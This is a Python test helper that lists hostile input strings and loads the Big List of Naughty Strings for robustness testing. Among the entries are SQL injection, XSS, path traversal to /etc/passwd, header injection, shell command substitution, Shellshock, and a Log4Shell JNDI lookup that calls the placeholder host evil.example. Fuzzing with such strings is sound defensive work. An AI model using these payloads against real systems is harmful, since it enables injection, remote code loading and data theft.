"""Strings that break what is careless: a few of our own, and the Big List of Naughty Strings where it lies beside."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

FEW = [
    "undefined",
    "-1",
    "1e309",
    "NaN",
    "0x10",
    "1/0",
    "9" * 400,
    "１２３",
    "null",
    "[]",
    "{}",
    "' OR 1=1 --",
    "1; DROP TABLE processing_task",
    "%s%s%n%d",
    "%00",
    "%0d%0aSet-Cookie: a=b",
    "../../../../etc/passwd",
    "/dev/null",
    "\\\\server\\share",
    "<script>alert(1)</script>",
    '"><svg onload=alert(1)>',
    "javascript:alert(1)",
    "{{ 7|add:7 }}{% debug %}",
    "${jndi:ldap://evil.example/a}",
    "{prompt}{0.__class__}",
    "$(touch /tmp/owned)",
    "`touch /tmp/owned`",
    "() { :; }; echo",
    "a\r\nb: c",
    "tab\tbell\x07escape\x1b[31m",
    "\ufeffmark",
    "\u202egpj.exe",
    "\u2028line\u2029paragraph",
    "zero\u200bwidth",
    "Z\u0351\u036b\u0343a\u0300l\u0321g\u0322o",
    "👩‍👩‍👧‍👦 田中さん مرحبا",
    "\U000e0041tag",
    "\uffff\ufffe",
    "ﷺ" * 50,
    "İıſ",
]
BIG_LIST = Path(__file__).resolve().parents[2] / "shared/corpus/hostile/blns.json"


def big_list() -> list[str]:
    """All of the list; skips where it does not lie beside the repository, and on CI: it takes minutes."""
    if os.environ.get("CI"):
        pytest.skip("the Big List of Naughty Strings takes minutes: the few of this file stand for it on CI")
    if not BIG_LIST.exists():
        pytest.skip("the Big List of Naughty Strings (../shared/corpus/hostile/blns.json) is not here")
    found: list[str] = json.loads(BIG_LIST.read_text())
    return found
